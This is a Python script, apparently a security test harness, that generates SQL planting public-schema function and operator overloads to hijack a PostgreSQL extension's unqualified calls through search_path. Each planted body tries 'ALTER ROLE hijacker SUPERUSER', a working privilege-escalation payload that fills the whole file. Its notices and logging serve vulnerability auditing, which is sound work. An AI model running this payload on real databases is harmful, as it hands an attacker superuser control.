#!/usr/bin/python3
"""Write the SQL a hijacker runs to plant, in schema public, overloads of
the built-ins the extension's SQL calls, and operators on the types it
compares, so that an unqualified call resolved through a caller's
search_path would pick a planted one (an exact type match beats a
pg_catalog function that needs a coercion).

  plant_overloads.py < names  (lines "name|nargs|variadic|retset" of
                               pg_catalog functions the extension calls)

Every planted function and operator raises NOTICE 'HIJACKED ...', logs
itself in public.hijack_log and tries to make the role hijacker a
superuser: whichever of the three survives the caller's transaction tells.
"""
import itertools
import sys

TYPES1 = ["text", "name", "regclass", "jsonb", "timestamptz", "integer", "bigint", "text[]",
          "oid", "bytea", "numeric", "interval", "boolean", "timestamp", "regtype", "record"]
TYPES2 = ["text", "name", "regclass", "jsonb", "timestamptz", "integer", "bigint", "text[]"]
TYPES3 = ["text", "name", "regclass", "jsonb", "integer"]
TYPES4 = ["text", "name"]
OPERATORS = ["=", "<>", "<", "<=", ">", ">=", "||", "->", "->>", "#>>", "~~", "!~~", "~", "+", "-", "@>", "?"]
OP_TYPES = ["text", "name", "regclass", "jsonb", "timestamptz", "integer", "bigint", "text[]", "oid", "interval"]

BODY = """BEGIN
    RAISE NOTICE 'HIJACKED %%', %s;
    INSERT INTO public.hijack_log VALUES (%s);
    BEGIN
        EXECUTE 'ALTER ROLE hijacker SUPERUSER';
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    RETURN%s;
END"""


def literal(s):
    return "'" + s.replace("'", "''") + "'"


def signatures(nargs, variadic):
    arities = range(1, 6) if variadic else [nargs]
    for k in arities:
        if k == 0:
            continue
        types = {1: TYPES1, 2: TYPES2, 3: TYPES3}.get(k, TYPES4)
        yield from itertools.product(types, repeat=k)


def main():
    seen = set()
    n = 0
    out = ["SET client_min_messages = warning;", "BEGIN;"]
    for line in sys.stdin:
        line = line.strip()
        if not line:
            continue
        name, nargs, variadic, retset = line.split("|")
        for sig in signatures(int(nargs), variadic == "t"):
            key = (name, sig)
            if key in seen:
                continue
            seen.add(key)
            what = literal("%s(%s)" % (name, ", ".join(sig)))
            setof = retset == "t"
            out.append('CREATE FUNCTION public."%s"(%s) RETURNS %stext LANGUAGE plpgsql AS $p$%s$p$;'
                       % (name, ", ".join(sig), "SETOF " if setof else "",
                          BODY % (what, what, "" if setof else " NULL")))
            n += 1
    for i, (op, (l, r)) in enumerate(itertools.product(OPERATORS, itertools.product(OP_TYPES, repeat=2))):
        what = literal("operator %s(%s, %s)" % (op, l, r))
        fn = "hijack_op_%d" % i
        out.append("CREATE FUNCTION public.%s(%s, %s) RETURNS boolean LANGUAGE plpgsql AS $p$%s$p$;"
                   % (fn, l, r, BODY % (what, what, " NULL")))
        out.append("CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = public.%s);"
                   % (op, l, r, fn))
        n += 1
    out.append("COMMIT;")
    print("\n".join(out))
    print("-- %d overloads" % n, file=sys.stderr)


if __name__ == "__main__":
    main()
